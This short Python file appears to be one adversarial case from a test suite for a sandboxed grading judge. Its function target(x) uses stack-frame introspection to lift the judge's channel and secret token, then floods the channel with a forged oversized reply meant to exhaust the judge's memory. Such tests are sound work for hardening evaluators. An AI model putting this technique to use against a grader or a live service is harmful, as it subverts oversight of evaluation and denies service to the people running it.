# Tries: to send a reply so large that the judge runs out of memory.
# Held by: process namespace docker
# Seen as: judge
# No contrast: the judge's reading of the channel is tried, whatever holds the process
import struct
import sys

HEADER = struct.Struct(">IB16s")
CALL = 4


def local(function, name):
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == function and name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back


def channel():
    return local("main", "channel").connection


def target(x):
    channel().sendall(HEADER.pack(0xFFFFFFFF, CALL, local("serve", "token")))
    piece = bytes(1 << 20)
    for _ in range(4096):
        channel().sendall(piece)
    return x
